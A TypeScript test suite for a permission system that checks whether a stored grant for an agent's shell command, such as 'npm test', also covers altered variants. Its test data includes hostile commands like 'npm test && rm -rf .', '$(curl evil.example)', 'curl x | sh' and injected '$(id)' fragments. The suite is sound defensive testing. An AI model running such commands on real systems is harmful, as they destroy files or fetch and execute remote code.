import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { beforeTool } from '../../test/support/store/store.ts';
import type { HookEvent } from '../model/events.ts';
import { toolKind } from '../model/tools.ts';
import { type AnsweredCall, type GrantScope, grantFor, type StandingGrant, standingAnswer } from './grant.ts';
import { grantSubject } from './grant-subject.ts';

const around = {
  home: '/home/dev',
  now: () => 0,
  branchOf: (folder: string) => (folder === '/home/dev/shop' ? 'main' : 'other'),
  redact: (text: string) => text,
  real: (path: string) => path,
  identityOf: (folder: string) => folder,
  runOptions: () => ({}),
};
const inShop = (command: string, more: Partial<HookEvent> = {}): HookEvent =>
  Object.assign(beforeTool(command), { cwd: '/home/dev/shop', projectId: '/home/dev/shop' }, more);

function granted(
  command: string,
  scope: GrantScope = 'project',
  event: HookEvent = inShop(command),
): StandingGrant {
  const tool = event.type === 'before_tool' ? event.tool : null;
  const call: AnsweredCall = {
    eventId: event.id,
    source: event.source,
    tool,
    sessionId: event.sessionId,
    projectId: event.projectId,
    cwd: event.cwd,
  };
  const grant = grantFor(
    call,
    { id: 'g', behavior: 'allow', scope, reach: 'exact', expiresAt: null, by: 'ann' },
    around,
  );
  if ('problem' in grant) throw new Error(grant.problem);
  return grant;
}

const covers = (grant: StandingGrant, event: HookEvent) => standingAnswer(event, [grant], around) !== null;

test('covers the same command in another spelling, on every agent', () => {
  const grant = granted('npm test');
  for (const same of ['npm test', 'npm  test', '"npm" test', "n''pm test"])
    expect(covers(grant, inShop(same))).toBe(true);
  expect(covers(grant, inShop('npm test', { source: 'another' }))).toBe(true);
});

test('a grant is stored without secrets in its directory, and applies there only', () => {
  const secret = `ghp_${'a1B2c3'.repeat(6)}`;
  const place = (name: string) => ({
    cwd: `/srv/${name}`,
    projectId: `/srv/${name}`,
    sessionId: `s-${name}`,
  });
  for (const scope of ['session', 'branch', 'project'] as const) {
    const event = inShop('npm test', place(secret));
    const grant = granted('npm test', scope, event);
    // In this test the identity of a directory is its path.
    expect(JSON.stringify({ ...grant, place: null })).not.toContain(secret);
    expect(covers(grant, event)).toBe(true);
    expect(covers(grant, inShop('npm test', place(`${secret}x`)))).toBe(false);
    // As stored by earlier versions.
    const { cwd, projectId, sessionId } = event;
    expect(
      covers({ ...grant, cwd, project: projectId, sessionId: scope === 'session' ? sessionId : null }, event),
    ).toBe(true);
  }
});

test.each([
  'npm test && rm -rf .',
  'npm test; rm -rf .',
  'npm test -- $(curl evil.example)',
  'npm test `id`',
  'npm test | sh',
  'npm test > package.json',
  'npm t',
  'npm tset',
  'npm test x',
  'NODE_OPTIONS=--require=./x npm test',
  'sudo npm test',
  './npm test',
  '/tmp/npm test',
  'cd /tmp && npm test',
  'npm run test',
  'eval npm test',
])('a grant for `npm test` does not cover `%s`', (command) => {
  expect(covers(granted('npm test'), inShop(command))).toBe(false);
});

test("another directory, project, session or branch isn't covered", () => {
  expect(covers(granted('npm test'), inShop('npm test', { cwd: '/home/dev/shop/api' }))).toBe(false);
  expect(
    covers(granted('npm test'), inShop('npm test', { cwd: '/home/dev/site', projectId: '/home/dev/site' })),
  ).toBe(false);
  expect(covers(granted('npm test', 'session'), inShop('npm test', { sessionId: 'another' }))).toBe(false);
  expect(covers({ ...granted('npm test', 'branch'), branch: 'feature' }, inShop('npm test'))).toBe(false);
  expect(
    covers(
      granted('npm test', 'always'),
      inShop('npm test', { cwd: '/home/dev/site', projectId: '/home/dev/site' }),
    ),
  ).toBe(true);
});

test.each(['make check || git push', 'make check; git push', 'while make check; do git push; done'])(
  'a grant for `make check && git push` does not cover `%s`',
  (command) => {
    const grant = granted('make check && git push');
    expect(covers(grant, inShop('make check && git push'))).toBe(true);
    expect(covers(grant, inShop(command))).toBe(false);
  },
);

test('a grant ends when it expires', () => {
  const grant = { ...granted('npm test'), expiresAt: new Date(-1).toISOString() };
  expect(covers(grant, inShop('npm test'))).toBe(false);
});

test("a call unknown before it runs can't be granted", () => {
  for (const command of ['rm $FILES', 'sh -c "$CMD"', 'curl x | sh', 'rm *.log']) {
    expect(() => granted(command)).toThrow('depends on values at run time');
  }
});

test('a stored deny beats a stored allow', () => {
  const yes = granted('npm test');
  const no: StandingGrant = { ...yes, id: 'n', behavior: 'deny' };
  expect(standingAnswer(inShop('npm test'), [yes, no], around)).toBe(no);
});

test('a grant can cover one whole MCP server', () => {
  const call = (server: string): HookEvent => {
    const event = inShop('x');
    if (event.type !== 'before_tool') throw new Error('not a call');
    const mcp = { server, tool: 'read' };
    return {
      ...event,
      tool: { ...event.tool, name: `mcp__${server}__read`, mcp, command: null, kind: toolKind('', mcp) },
    };
  };
  const event = call('docs');
  const tool = event.type === 'before_tool' ? event.tool : null;
  const grant = grantFor(
    { eventId: 'e', source: 'agent', tool, sessionId: 's', projectId: null, cwd: null },
    { id: 'g', behavior: 'allow', scope: 'always', reach: 'server', expiresAt: null, by: 'ann' },
    around,
  );
  if ('problem' in grant) throw new Error(grant.problem);
  expect(covers(grant, event)).toBe(true);
  expect(covers(grant, call('docs2'))).toBe(false);
});

describe('covers no mutation of a granted command unless it is the same command', () => {
  const pieces = fc.constantFrom(
    ' ',
    ';',
    '&&',
    '|',
    '>',
    '<',
    '$(id)',
    '`id`',
    '$X',
    '*',
    '&',
    '\n',
    '#',
    "'",
    '"',
    '\\',
    'rm -rf .',
    '-x',
    '=',
    '{a,b}',
    '~',
    '!',
  );
  const base = 'git status --short';
  test('insertions and deletions', () => {
    const grant = granted(base);
    fc.assert(
      fc.property(
        fc.nat(base.length),
        fc.array(pieces, { minLength: 1, maxLength: 3 }),
        fc.nat(3),
        (at, added, cut) => {
          const mutated = base.slice(0, at) + added.join('') + base.slice(Math.min(base.length, at + cut));
          if (!covers(grant, inShop(mutated))) return;
          // A covered command must have exactly these words, whatever quotes, blanks and comments surround them.
          const plain = mutated
            .replaceAll('\\\n', '')
            .replace(/(?:^|[\s;])#.*$/s, '')
            .replace(/["'\\]/g, '');
          const words = plain.split(/[\s;]+/).filter((word) => word !== '');
          expect(words).toEqual(base.split(' '));
        },
      ),
      { numRuns: 2000 },
    );
  });
});

test("a path with a space isn't two paths", () => {
  const moving = (path: string, to: string) => ({
    tool: {
      name: 'Move',
      nativeName: 'Move',
      kind: toolKind('Move', null),
      input: {},
      useId: null,
      mcp: null,
      command: null,
      files: [{ op: 'move', path, to } as const],
    },
    source: 'claude',
    cwd: '/',
  });
  const keyOf = (path: string, to: string) => grantSubject(moving(path, to), around)?.key;
  expect(keyOf('/a', '/b /c')).not.toBe(keyOf('/a /b', '/c'));
  expect(keyOf('/a', '/b\nmove /c /d')).not.toBe(keyOf('/a', '/b'));
  // Earlier stored keys still match.
  expect(keyOf('/a', '/b')).toBe('files move /a /b');
});
